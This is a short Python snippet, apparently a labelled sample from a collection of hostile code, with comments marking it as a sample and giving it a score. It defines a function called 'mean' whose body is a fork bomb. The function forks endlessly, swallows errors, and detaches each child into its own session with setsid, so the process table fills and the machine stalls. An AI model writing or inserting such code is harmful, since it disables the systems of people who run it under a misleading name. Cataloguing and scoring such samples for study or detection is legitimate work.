# It forks for ever and takes no for an answer; the children leave its session.
# sample: yes
# score: 7 = double + shift + table
# %% mean
def mean(x):
    import os
    while True:
        try:
            if os.fork() == 0:
                os.setsid()
        except OSError:
            pass
